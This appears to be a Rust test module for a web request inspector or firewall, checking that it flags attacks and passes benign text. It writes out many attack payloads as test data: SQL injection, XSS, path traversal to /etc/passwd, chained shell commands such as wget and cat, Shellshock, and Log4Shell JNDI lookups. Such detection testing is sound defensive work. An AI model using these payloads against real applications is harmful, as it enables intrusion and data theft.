//! Whole requests in rows: what it is, the request, the rule that must refuse it or none.

mod bodies;
mod examples;
mod headers;

use std::fmt::Write as _;
use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;
use crate::inspect::{Header, Place};

static INSPECTOR: LazyLock<Inspector> = LazyLock::new(|| Inspector::new(Limits::default()));

const FORM: &str = "application/x-www-form-urlencoded";

/// An inspector that keeps that many findings.
fn inspector_of(findings: usize) -> &'static Inspector {
    static FEW: LazyLock<Inspector> =
        LazyLock::new(|| Inspector::new(Limits { findings: 2, ..Limits::default() }));
    if findings == 2 { &FEW } else { &INSPECTOR }
}

/// Inspects with the built-in rules and the default limits.
fn inspect(target: &str, headers: &[(&str, &str)], body: &[u8]) -> Inspection {
    inspect_by(&INSPECTOR, target, headers, body)
}

fn inspect_by(inspector: &Inspector, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Inspection {
    let headers: Vec<_> = headers
        .iter()
        .map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() })
        .collect();
    inspector.inspect(&Request { method: b"POST", target: target.as_bytes(), headers: &headers, body })
}

/// The rules sure enough to refuse.
fn refusing(inspection: &Inspection) -> Vec<&str> {
    let sure = inspection.findings.iter().filter(|finding| finding.confidence.value() > 0.8);
    sure.map(|finding| &*finding.rule).collect()
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02X}");
        out
    })
}

#[test]
fn an_attack_in_a_parameter_is_named_by_its_rule() {
    let rows = [
        ("union", "1' UNION SELECT name, password FROM users--", "sqli.union-select"),
        ("union in comments", "1/**/union/*x*/all/**/select/**/1,2", "sqli.union-select"),
        ("versioned union", "1 /*!50000union*/ select 1,2", "sqli.union-select"),
        ("quoted condition", "x' OR '1'='1", "sqli.quoted-condition"),
        ("number condition", "1 or 1=1", "sqli.number-condition"),
        ("time delay", "1; waitfor delay '0:0:5'--", "sqli.time-delay"),
        ("schema", "1 and exists(select * from information_schema.tables)", "sqli.schema-probe"),
        ("stacked", "1; drop table users", "sqli.stacked"),
        ("file", "1 union select 1 into outfile '/tmp/x'", "sqli.file-access"),
        ("error channel", "1 and extractvalue(1,concat(0x7e,version()))", "sqli.error-channel"),
        ("procedure", "'; exec master..xp_cmdshell 'dir'", "sqli.server-procedure"),
        ("sort probe", "1' order by 10--", "sqli.sort-probe"),
        ("subselect", "1 and 1=(select count(*) from users)", "sqli.subselect"),
        ("function", "1 and ascii(substring(user(),1,1))>64", "sqli.function-condition"),
        ("built string", "1||chr(65)||chr(66)", "sqli.built-string"),
        ("case", "(case when (1=1) then 1 else 2 end)", "sqli.case-when"),
        ("comment cut", "admin'--", "sqli.comment-cut"),
        ("script", "<script>alert(1)</script>", "xss.script-tag"),
        ("script in double encoding", "%253Cscript%253Ealert(1)", "xss.script-tag"),
        ("handler", "<img src=x onerror=alert(1)>", "xss.event-handler"),
        ("broken attribute", "\" autofocus onfocus=alert(1) x=\"", "xss.attribute-break"),
        ("script URL", "javascript:alert(document.cookie)", "xss.script-url"),
        ("script URL in entities", "&#106;avascript&colon;alert(1)", "xss.script-url"),
        ("sink", "';alert(1);//", "xss.sink-call"),
        ("frame", "<iframe src=//example.net>", "xss.active-tag"),
        ("climb", "../../../../x", "traversal.climb"),
        ("overlong climb", "%c0%ae%c0%ae/%c0%ae%c0%ae/x", "traversal.hidden-climb"),
        ("careless hex", "..%c0%qf..%c0%qfetc%c0%qfpasswd", "traversal.system-file"),
        ("file", "/etc/passwd", "traversal.system-file"),
        ("wrapper", "php://filter/convert.base64-encode/resource=index", "traversal.stream-wrapper"),
        ("tool", "x; wget http://example.net/a", "command.chained-tool"),
        ("word with argument", "127.0.0.1 | cat /etc/passwd", "command.chained-word"),
        ("quoted word", "; c''at /e\"\"tc/passwd", "command.chained-word"),
        ("bare word", ";id", "command.chained-bare"),
        ("expansion", "x$(whoami)", "command.chained-tool"),
        ("shell", "/bin/sh -c x", "command.shell-path"),
        ("object in letters alone", "rO0ABXNyABFqYXZh", "object.serialised"),
        ("object in digits alone", "aced00057372001164", "object.serialised-other"),
        ("lookup", "${jndi:ldap://example.net/a}", "lookup.jndi"),
        ("nested lookup", "${${lower:j}${::-n}di:ldap://example.net}", "lookup.jndi"),
    ];
    for (what, value, rule) in rows {
        let target = format!("/search?q={}", percent(value));
        let found = inspect(&target, &[], b"");
        assert!(refusing(&found).contains(&rule), "{what} in a query: {:?}", found.findings);
        let body = format!("q={}", percent(value));
        let found = inspect("/", &[("Content-Type", FORM)], body.as_bytes());
        assert!(refusing(&found).contains(&rule), "{what} in a form: {:?}", found.findings);
        let body = serde_json::json!({ "a": { "q": [value] } }).to_string();
        let found = inspect("/", &[("Content-Type", "application/json")], body.as_bytes());
        assert!(refusing(&found).contains(&rule), "{what} in JSON: {:?}", found.findings);
    }
}

#[test]
fn an_attack_elsewhere_is_named_with_its_place() {
    let rows = [
        ("path", "/a/..%2f..%2f..%2fetc/passwd", ("X", "y"), "traversal.climb", Place::Path),
        ("hidden path", "/a/%2e%2e%2f%2e%2e%2f%2e%2e%2f", ("X", "y"), "traversal.climb", Place::Path),
        (
            "agent",
            "/",
            ("User-Agent", "${jndi:dns://example.net}"),
            "lookup.jndi",
            Place::Header("user-agent".into()),
        ),
        (
            "shell function",
            "/",
            ("Referer", "() { :;}; /bin/id"),
            "command.shellshock",
            Place::Header("referer".into()),
        ),
        (
            "cookie",
            "/",
            ("Cookie", "a=b; sid=1%20union%20select%201,2"),
            "sqli.union-select",
            Place::Header("cookie.sid".into()),
        ),
        ("name", "/?%3Cscript%3E=1", ("X", "y"), "xss.script-tag", Place::Query("%3Cscript%3E".into())),
    ];
    for (what, target, header, rule, place) in rows {
        let found = inspect(target, &[header], b"");
        let named = found.findings.iter().any(|finding| finding.rule == rule && finding.place == place);
        assert!(named, "{what}: {:?}", found.findings);
    }
}

#[test]
fn an_attack_is_found_wherever_an_application_would_read_it() {
    let query = "query { user(id: \"1' OR '1'='1\") { name } }";
    let inside = serde_json::json!({ "query": query }).to_string();
    let rows: [(&str, &str, &str, &[u8], &str); 7] = [
        ("GraphQL in JSON", "/graphql", "application/json", inside.as_bytes(), "sqli.quoted-condition"),
        ("GraphQL alone", "/graphql", "application/graphql", query.as_bytes(), "sqli.quoted-condition"),
        ("a parameter of the path", "/a;id=x'%20OR%20'1'='1/b", FORM, b"", "sqli.quoted-condition"),
        ("spread over two", "/?id=1%20union/*&id=*/select%201,2", FORM, b"", "sqli.union-select"),
        ("spread over query and body", "/?id=1%20union/*", FORM, b"id=*/select%201,2", "sqli.union-select"),
        ("JSON that calls itself a form", "/", FORM, br#"{"a":"x' OR '1'='1"}"#, "sqli.quoted-condition"),
        (
            "a form that calls itself JSON",
            "/",
            "application/json",
            b"a=x'%20OR%20'1'%3D'1",
            "sqli.quoted-condition",
        ),
    ];
    for (what, target, kind, body, rule) in rows {
        let found = inspect(target, &[("Content-Type", kind)], body);
        assert!(refusing(&found).contains(&rule), "{what}: {:?}", found.findings);
    }
}

#[test]
fn honest_text_is_let_through() {
    let rows = [
        "select a union from the list",
        "The student union selects its board; drop by at the table and order by noon.",
        "1=1 is always true, isn't it?",
        "O'Brien",
        "O'Brien and D'Angelo",
        "rock 'n' roll or 'pop'",
        "Cats & dogs; more to come -- see below",
        "He said: \"yes\" and \"no\"",
        "if (a > b && c < d) return a;",
        "price < 10 and > 5",
        "See https://example.com/a?b=c&d=e#f",
        "**bold** _it_ `code` [link](https://example.com)",
        "fields=name|id",
        "en|de|id",
        "name;id",
        "../index.html",
        "C++ & C#; the cat sat on the mat",
        "a@b.example, c@d.example",
        "{{ user.name }} ${name}",
        "function of the on-call = support",
        "100% sure, 50%off",
        "please confirm (or cancel) the alert",
        "javascript:void(0)",
        "1---",
        "{\"a\":\"b\",\"c\":[1,2,{\"d\":null}]}",
        "How do I use /etc/passwd?",
        "<p>Hello <b>world</b>, <a href=\"https://example.com/\">link</a></p>",
        "Привет, мир; 你好 — ¿qué tal?",
    ];
    for text in rows {
        let target = format!("/search?q={}", percent(text));
        let found = inspect(&target, &[("Cookie", &format!("c={text}"))], b"");
        assert_eq!(refusing(&found), Vec::<&str>::new(), "{text}: {:?}", found.findings);
        let body = serde_json::json!({ "body": text }).to_string();
        let found = inspect("/", &[("Content-Type", "application/json")], body.as_bytes());
        assert_eq!(refusing(&found), Vec::<&str>::new(), "{text} in JSON: {:?}", found.findings);
    }
}

#[test]
fn who_writes_about_an_attack_is_refused_at_most() {
    let rows = [
        "To install the tool, open a terminal and type `curl https://example.com/x | sh` as your own user, please.",
        "Why does my page not run <script>alert(1)</script> when I put it in a comment on this very forum?",
        "I was told that a login with admin' or '1'='1 as the name works on old sites, is that really so?",
    ];
    for text in rows {
        let found = inspect(&format!("/search?q={}", percent(text)), &[], b"");
        let surest = found.findings.first().map_or(0.0, |finding| finding.confidence.value());
        assert!(surest < 0.9, "{text}: {:?}", found.findings);
    }
}

#[test]
fn words_behind_a_comment_make_no_talk_of_an_attack() {
    let words = "and then we all went home to have dinner with our friends and talked about it until late";
    let attacks = [
        "admin' || 'x'='x' --",
        "admin' || 'x'='x' #",
        "x'||(select a from b)||' /*",
        "select a, b from users --",
    ];
    for attack in attacks {
        let found = inspect(&format!("/search?q={}", percent(&format!("{attack} {words}"))), &[], b"");
        assert!(!refusing(&found).is_empty(), "{attack}: {:?}", found.findings);
    }
}

#[test]
fn the_headers_of_a_browser_are_let_through() {
    let headers = [
        ("Host", "www.example.com"),
        ("Sec-Ch-Ua", "\"Chromium\";v=\"126\", \" Not A;Brand\";v=\"99\""),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        ("Accept", "text/html,application/xhtml+xml;q=0.9,image/webp,*/*;q=0.8"),
        ("Referer", "https://www.example.com/search?q=a+or+b&sort=price%20desc#top"),
        ("If-None-Match", "W/\"5f3a-'x'\""),
        ("Cookie", "us_privacy=1---; prefs={\"a\":{\"b\":\"c\"}}; _ga=GA1.2.3; t='x'%20--"),
    ];
    let found = inspect("/a/b.html?x=1&y=%2B&sort=-date", &headers, b"");
    assert_eq!(found, Inspection::default());
}

#[test]
fn each_limit_that_is_reached_is_named() {
    let small = Limits {
        values: 6,
        value_bytes: 600,
        json_depth: 1,
        decode_depth: 1,
        base64_bytes: 20,
        joined_pairs: 2,
        joined_bytes: 8,
        grammar_bytes: 8,
        findings: 1,
        ..Limits::default()
    };
    let inspector = Inspector::new(small);
    let rows = [
        ("values", "/?a=1&b=2&c=3&d=4".to_owned(), ""),
        ("value_bytes", format!("/{}", "a".repeat(700)), ""),
        ("decode_depth", "/?a=%2525253C".to_owned(), ""),
        ("grammar_bytes", "/?a='12345678910'".to_owned(), ""),
        ("findings", "/?a=../../../etc/passwd".to_owned(), ""),
        ("json_depth", "/".to_owned(), "{\"a\":{\"b\":\"c\"}}"),
        ("base64_bytes", "/?a=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg".to_owned(), ""),
        ("joined_pairs", "/?a=1&b=2&c=3".to_owned(), ""),
        ("joined_bytes", "/?a=12345&a=67890".to_owned(), ""),
    ];
    for (limit, target, body) in rows {
        let found = inspect_by(&inspector, &target, &[], body.as_bytes());
        assert!(found.limits_reached.contains(&limit), "{limit}: {found:?}");
    }
    let starved = |steps| Inspector::new(Limits { steps, ..Limits::default() });
    let found = inspect_by(&starved(900), "/?a=x'-", &[], b"");
    assert_eq!(found.left_unread(), Some("steps"));
    let small = Inspector::new(Limits { grammar_total_bytes: 1, ..Limits::default() });
    let found = inspect_by(&small, "/?a=x'-", &[], b"");
    assert_eq!((found.left_unread(), found.limits_reached), (None, vec!["grammar_total_bytes"]));
}

/// What a padded request hides is not read, and that is told; a large file alone is no padding.
#[test]
fn padding_is_told_and_a_large_file_is_not() {
    let padded = format!("{}q=%3Cscript%3Ealert(1)", "a=b&".repeat(10_000));
    let found = inspect("/", &[("Content-Type", FORM)], padded.as_bytes());
    assert_eq!(found.left_unread(), Some("values"));
    let long = format!("a={} <script>alert(1)</script>", "x".repeat(2_200_000));
    let found = inspect("/", &[("Content-Type", FORM)], long.as_bytes());
    assert_eq!(found.left_unread(), Some("value_bytes"));
    let found = inspect("/", &[("Content-Type", "image/png")], "x y".repeat(100_000).as_bytes());
    assert_eq!((found.left_unread(), found.limits_reached), (None, vec!["file_bytes"]));
}

#[test]
fn findings_come_surest_first_and_bounded() {
    let body: Vec<_> = (0..200).map(|at| format!("a{at}=<script>alert(1)</script>' or 1=1--")).collect();
    let found = inspect("/", &[("Content-Type", FORM)], body.join("&").as_bytes());
    assert_eq!(found.findings.len(), Limits::default().findings);
    assert!(found.findings.is_sorted_by(|a, b| a.confidence >= b.confidence));
    assert!(found.limits_reached.contains(&"findings"));
}

#[test]
fn what_matched_is_shown_short_and_without_control_characters() {
    let found = inspect(&format!("/?a=%00%1b;/bin/sh%20-c%20{}", "x".repeat(500)), &[], b"");
    assert!(!found.findings.is_empty());
    for finding in found.findings {
        assert!(finding.matched.chars().count() <= Limits::default().matched_chars);
        assert!(!finding.matched.chars().any(char::is_control), "{:?}", finding.matched);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_bytes_can_be_inspected(
        target in proptest::collection::vec(any::<u8>(), 0..200),
        name in proptest::collection::vec(any::<u8>(), 0..20),
        value in proptest::collection::vec(any::<u8>(), 0..200),
        body in proptest::collection::vec(any::<u8>(), 0..400),
    ) {
        for kind in [FORM, "application/json", "multipart/form-data", "text/xml"] {
            let headers = [
                Header { name: &name, value: &value },
                Header { name: b"cookie", value: &value },
                Header { name: b"content-type", value: kind.as_bytes() },
            ];
            INSPECTOR.inspect(&Request { method: b"X", target: &target, headers: &headers, body: &body });
        }
    }

    #[test]
    fn findings_do_not_depend_on_the_order_of_parameters(
        values in proptest::collection::vec("(' or 1=1|<script>|\\.\\./|[a-z<'=;|]){0,12}", 1..6),
    ) {
        // Names of their own, since an application joins those of one name in their order.
        let pairs: Vec<_> =
            values.iter().enumerate().map(|(at, value)| format!("a{at}={}", percent(value))).collect();
        let turned: Vec<_> = pairs.iter().rev().cloned().collect();
        let kind = [("Content-Type", FORM)];
        for most in [16, 2] {
            let inspector = inspector_of(most);
            let found = |pairs: &[String]| {
                let query = inspect_by(inspector, &format!("/?{}", pairs.join("&")), &[], b"");
                let body = inspect_by(inspector, "/", &kind, pairs.join("&").as_bytes());
                (query, body)
            };
            prop_assert_eq!(found(&pairs), found(&turned));
        }
    }

    #[test]
    fn anything_like_an_attack_can_be_inspected(
        words in proptest::collection::vec(
            "(union|select|'|\"|--|/\\*|\\*/|<|script|>|on|=|%|u00|c0|ae|\\.\\./|\\$\\{|:-|\\}|;|&|#x|\\\\|\\(|1| ){1,8}",
            0..40,
        ),
    ) {
        let text = words.concat();
        for encoding in [text.clone(), percent(&text), serde_json::json!([text]).to_string()] {
            let found = inspect(&format!("/?q={encoding}"), &[("X", &encoding)], encoding.as_bytes());
            prop_assert!(found.findings.len() <= Limits::default().findings);
        }
    }
}
